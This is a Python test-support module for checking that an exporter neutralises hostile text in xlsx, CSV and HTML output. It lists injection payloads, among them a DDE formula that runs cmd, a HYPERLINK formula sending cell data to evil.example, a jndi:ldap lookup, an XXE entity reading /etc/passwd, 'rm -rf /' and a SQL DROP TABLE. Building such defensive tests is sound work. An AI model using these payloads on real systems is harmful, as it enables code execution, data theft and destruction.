"""Texts that do harm where a program takes them for more than text, and what each output shows of them.

    PAYLOADS           by kind, each with an id for the test's name
    in_workbook(text)  what a cell of fixlist.xlsx reads as
    in_csv(text)       what a cell of the CSV files reads as
    on_page(text)      what report.html reads as

These three are written from the formats' own rules and not from the program, so that a test holds one against the
other. Nearly every payload has a number of its own, so that no two are the same invoice, job or client.
Source: contract.md "Text is never a formula", "cells never start a formula"; OWASP "CSV Injection"; XML 1.0 section
2.2; ECMA-376 part 1, 22.9.2.19 (ST_Xstring); Excel specifications and limits (32,767 characters in a cell).
"""

from __future__ import annotations

import re
from functools import cache
from pathlib import Path
from typing import IO, Any, NamedTuple
from unittest import mock
from xml.etree import ElementTree

import openpyxl


class Payload(NamedTuple):
    """One text; `id` names it in the tests."""

    id: str
    kind: str
    text: str


_BY_KIND: dict[str, dict[str, str]] = {
    "formula": {
        "equals": "=1+10",
        "plus": "+1+11",
        "minus": "-1+12",
        "at": "@SUM(1,13)",
        "tab before equals": "\t=1+14",
        "cr before equals": "\r=1+15",
        "lf before equals": "\n=1+16",
        "crlf before equals": "\r\n=1+17",
        "no-break space before equals": "\u00a0=1+19",
        "bom before equals": "\ufeff=1+20",
        "zero width before equals": "\u200b=1+21",
        "fullwidth equals": "＝1+22",
        "fullwidth plus": "＋1+23",
        "fullwidth minus": "－1+24",
        "fullwidth at": "＠SUM(1,25)",
        "dde": "=cmd|' /C calc'!A26",
        "dde after a number": "-2+3+cmd|' /C calc'!A27",
        "dde after at": "@SUM(1+1)*cmd|' /C calc'!A28",
        "hyperlink": '=HYPERLINK("https://evil.example/30?x="&A1,"Open")',
        "formula in quotes": '"=1+33"',
        "quote before formula": '"=1+34',
        "apostrophe before formula": "'=1+35",
        "array": "{=1+36}",
        "phone number": "+61 2 5550 0138",
        "minus alone before words": "- see J000139",
    },
    "separator": {
        "formula after a semicolon": "x;=1+40",
        "formula after a comma": "x,=1+41",
        "formula after quote and comma": 'x","=1+42',
        "formula on the second line": "x\n=1+43",
        "formula after a tab": "x\t=1+44",
        "formula in a cell of semicolons": "x;=cmd|' /C calc'!A45;y",
        "formula between semicolons on the second line": "x\n=1+46;y",
        "plus and at after semicolons": "x;+1+47;@SUM(1);-48",
        "formula after a semicolon, wide": "x;＝1+49",
    },
    "html": {
        "script": "<script>alert(50)</script>",
        "img onerror": "<img src=x onerror=alert(52)>",
        "svg onload": "<svg onload=alert(53)>",
        "out of double quotes": '"><script>alert(54)</script>',
        "attribute in double quotes": '" onfocus="alert(55)" autofocus="',
        "attribute in single quotes": "' onmouseover='alert(56)",
        "attribute in backticks": "`onload=alert(57)`",
        "out of a script": "</script><script>alert(58)</script>",
        "comment": "<!-- 60",
        "end of a comment": "--> 61 <!--",
        "cdata": "<![CDATA[62]]>",
        "end of cdata": "]]> 63",
        "entities": "&lt;b&gt;64",
        "entity of an entity": "&amp;lt;65",
        "entity of zero": "&#0;67",
        "ampersand and angles": "Smith & Sons <68>",
        "iframe": '<iframe src="https://evil.example/70"></iframe>',
        "anchor": '<a href="https://evil.example/73">click</a>',
        "unclosed tag": '<b class="74',
        "form": "<form id=fixes name=body>76",
        "out of the title": "</title><h1>77",
        "out of a style": "</style><style>body{display:none}/*79",
        "style with a url": "red;background:url(https://evil.example/80)",
        "javascript url": "javascript:alert(82)",
        "data url": "data:text/html;base64,PHNjcmlwdD44Mzwvc2NyaXB0Pg==",
    },
    "template": {
        "braces": "{{7*7}}90",
        "braces and percent": "{% for a in b %}91{% endfor %}",
        "python format": "{0.__class__.__mro__}92",
        "log lookup": "${jndi:ldap://evil.example/95}",
    },
    "xml": {
        "entity from a file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;100',
        "out of the cell": "</t></is></c><c t='str'><f>1+101</f></c>",
        "escape of a letter": "_x0041_102",
        "escape of a line break": "_x000D_103",
        "escape of an escape": "_x005F_x0041_104",
        "escape of half a character": "_xD83D_106",
    },
    "url": {
        "http": "http://evil.example/110",
        "https": "https://evil.example/111?a=1&b=2",
        "www": "www.evil.example/112",
        "file": "file:///C:/Windows/113",
        "share": "\\\\evil.example\\share\\114",
        "mailto": "mailto:a@evil.example?subject=115",
        "ftp": "ftp://evil.example/116",
        "mail address": "a117@evil.example",
    },
    "control": {
        "start of heading first": "\x01120",
        "bell": "A\x07121",
        "escape colour": "A\x1b[31mred\x1b[0m123",
        "vertical tab": "A\x0b125",
        "form feed": "A\x0c126",
        "delete": "A\x7f128",
        "csi of c1": "A\x9b31m129",
        "next line": "A\x85130",
        "line separator": "A\u2028131",
        "noncharacter fffe": "A\ufffe132",
        "noncharacter ffff": "A\uffff133",
        "noncharacter fdd0": "A\ufdd0134",
    },
    "direction": {
        "override": "A\u202egpj.exe140",
        "isolate never closed": "A\u2067141",
        "hebrew": "שלום 142",
        "arabic": "مرحبا 143",
    },
    "letters": {
        "family with joiners": "👩‍👩‍👧‍👦 150",
        "flags": "🇦🇺🇳🇿 151",
        "combining marks": "Z͑ͫ̓a̴͘l̸͖g̷o 154",
        "decomposed": "Cafe\u0301 155",
        "turkish i": "İstanbul ırmak 156",
        "sharp s": "STRAẞE straße 157",
        "wide": "Ａｃｍｅ 159",
    },
    "csv": {
        "quotes": 'He said "no" 160',
        "lone quote": '"161',
        "doubled quotes": '""162""',
        "commas": "a,b,163",
        "lf": "line\nbreak 165",
        "crlf": "line\r\nbreak 166",
        "cr": "line\rbreak 167",
    },
    "other languages": {
        "sql": "'; DROP TABLE jobs; --170",
        "path up": "../../etc/passwd172",
        "printf": "%s%n%x174",
        "shell": "$(touch owned176)",
        "shell after a semicolon": "; rm -rf / #178",
        "json": '","fix":"FX-0179',
        "header": "181\r\nSet-Cookie: a=b",
    },
    "words of no value": {
        "null": "null",
        "none": "None",
        "nan": "nan",
        "na": "NA",
        "pandas na": "<NA>",
        "true": "TRUE",
        "excel error": "#N/A",
    },
    "looks like a number": {
        "leading zeros": "000190",
        "long number": "12345678901234567191",
        "negative amount": "-193.50",
        "thousands": "1,194.00",
    },
    "long": {
        "forty thousand letters": "L" * 39_997 + "200",
        "forty thousand signs of a formula": "=" + "1+" * 19_998 + "201",
        "forty thousand faces": "😀" * 39_997 + "204",
        "one letter more": "M" * 32_765 + "206",
    },
}
PAYLOADS = tuple(
    Payload(name, kind, text) for kind, texts in _BY_KIND.items() for name, text in texts.items()
)

# What each output shows ---------------------------------------------------------------------------------------------

LONGEST_CELL = 32_767  # in units of UTF-16, as Excel counts
_NOT_IN_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
_RUNS = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
_NUMBER = re.compile(r"-\d+(\.\d+)?")
# What a spreadsheet runs that splits at semicolons: to it these quotes are in the middle of a cell.
_RUNS_BEHIND = re.compile(r"(?<=[;\t\r\n])(?=[=+\-@＝＋－＠])")


@cache
def in_workbook(text: str) -> str:
    """A cell's text: what XML cannot hold is U+FFFD, line ends are one, and what a cell cannot hold is cut off."""
    text = _NOT_IN_XML.sub("\ufffd", re.sub("\r\n?", "\n", text))
    if utf16_units(text) <= LONGEST_CELL:
        return text
    return text.encode("utf-16-le")[: 2 * (LONGEST_CELL - 1)].decode("utf-16-le", "ignore") + "…"


def utf16_units(text: str) -> int:
    """The length of a text as Excel counts it."""
    return len(text.encode("utf-16-le", "surrogatepass")) // 2


def in_csv(text: str) -> str:
    """A cell of a CSV file: an apostrophe before what a spreadsheet would run; a negative number is none of that."""
    text = _RUNS_BEHIND.sub("'", text)
    return f"'{text}" if _RUNS.match(text) and not _NUMBER.fullmatch(text) else text


_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def as_in_the_file(source: Path | IO[bytes]) -> Any:
    """A workbook by openpyxl, each text as the file has it: by itself openpyxl takes "x005F_" out, wherever it stands."""

    def texts(part: IO[bytes]) -> list[str]:
        found = ElementTree.parse(part).iter(f"{_MAIN}si")
        return ["".join(text.text or "" for text in one.iter(f"{_MAIN}t")) for one in found]

    with mock.patch("openpyxl.reader.excel.read_string_table", texts):
        return openpyxl.load_workbook(source)


_ESCAPED = re.compile("_x([0-9A-Fa-f]{4})_")


def unescaped(text: str) -> str:
    """The text that a cell of a workbook's file stands for; as_in_the_file gives it as it stands in the file."""
    return _ESCAPED.sub(lambda match: chr(int(match[1], 16)), text)


def escaped(text: str) -> str:
    """The text as a workbook's file must hold it, where it looks like one of the file's own escapes."""
    return re.sub("_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", text)


# SHOWN_BY_PAGE: what report.html makes of a text is settled here and nowhere else.
def on_page(text: str) -> str:
    """A text on the page: as in the workbook, and not cut off."""
    return _NOT_IN_XML.sub("\ufffd", re.sub("\r\n?", "\n", text))
